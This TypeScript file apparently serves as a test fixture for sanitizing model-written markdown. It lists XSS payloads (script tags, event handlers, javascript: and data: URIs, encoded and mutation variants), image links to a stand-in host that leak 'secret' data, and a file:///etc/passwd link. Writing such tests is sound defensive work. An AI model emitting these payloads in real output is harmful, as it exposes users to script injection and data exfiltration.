// What a model can be talked into writing. Each tries to run a script, to ask another host for something, or to
// make a link that does either. `EVIL` stands for an address that must never be asked; scripts call `attack()`.

const html: readonly string[] = [
  '<script>attack()</script>',
  '<script src="EVIL/a.js"></script>',
  '<img src=x onerror=attack()>',
  '<img src="EVIL/pixel.png">',
  '<svg onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<svg><animate onbegin=attack() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=attack()&gt;">',
  '<iframe src="javascript:attack()"></iframe>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<object data="EVIL/o"></object><embed src="EVIL/e">',
  '<link rel="stylesheet" href="EVIL/s.css"><style>@import "EVIL/i.css"</style>',
  '<div style="background:url(EVIL/bg)">x</div>',
  '<a href="javascript:attack()">x</a>',
  '<form action="javascript:attack()"><button>x</button></form>',
  '<input autofocus onfocus=attack()>',
  '<details open ontoggle=attack()>',
  '<video><source onerror=attack()></video><audio src=EVIL/a>',
  '<base href="EVIL/"><meta http-equiv="refresh" content="0;url=EVIL/r">',
  '<template><img src=x onerror=attack()></template>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<xmp><p title="</xmp><img src=x onerror=attack()>">',
  '<!--<img src="--><img src=x onerror=attack()>-->',
  '<x id=attack><y style=animation-name:z onanimationstart=attack()>',
];

const links: readonly string[] = [
  '[x](javascript:attack())',
  '[x](JaVaScRiPt:attack())',
  '[x](java\tscript:attack())',
  '[x](&#106;avascript:attack())',
  '[x](javascript&colon;attack())',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;attack())',
  '[x](<javascript:attack()>)',
  '[x](\u0001javascript:attack())',
  '[x]( javascript:attack() "title")',
  '[x](vbscript:attack()) [x](data:text/html,<script>attack()</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==)',
  '[x](blob:attack) [x](file:///etc/passwd) [x](//evil.invalid/x) [x](/streams/secret/stop)',
  '[x][1]\n\n[1]: javascript:attack()',
  '[x]\n\n[x]: <data:text/html,<script>attack()</script>>',
  '<javascript:attack()> <data:text/html,x>',
  '[x](https://ok.invalid "t\\" onmouseover=attack() x=\\"")',
  '[<img src=x onerror=attack()>](https://ok.invalid)',
  '[x](https://ok.invalid/"onmouseover="attack())',
];

const images: readonly string[] = [
  '![x](EVIL/pixel.png?data=secret)',
  '![x][1]\n\n[1]: EVIL/reference.png',
  '[![x](EVIL/inner.png)](EVIL/outer)',
  '![x](javascript:attack())',
  '![x](data:image/svg+xml,<svg onload=attack()>)',
  '![" onerror=attack() "](x)',
  '![x](x "\\"onerror=attack()")',
  '![![x](EVIL/deep.png)](EVIL/deeper.png)',
];

const elsewhere: readonly string[] = [
  '```<img src=x onerror=attack()>\n<script>attack()</script>\n```',
  '```"><img src=x onerror=attack()>\ncode\n```',
  '    <script>attack()</script>',
  '`<img src=x onerror=attack()>`',
  '| <script>attack()</script> | a |\n| - | - |\n| <img src=x onerror=attack()> | <br onclick=attack()> |',
  '# <img src=x onerror=attack()>\n\n> <svg onload=attack()>\n\n- <img src=x onerror=attack()>',
  '1. [x](javascript:attack())\n2. ![x](EVIL/list.png)',
  '&lt;img src=x onerror=attack()&gt; &#60;script&#62;attack()&#60;/script&#62;',
  '[__proto__]: javascript:attack()\n\n[__proto__] [constructor] [toString]',
  '**<b onclick=attack()>x</b>** _<i onmouseover=attack()>_',
];

export const attacks: readonly string[] = [...html, ...links, ...images, ...elsewhere];
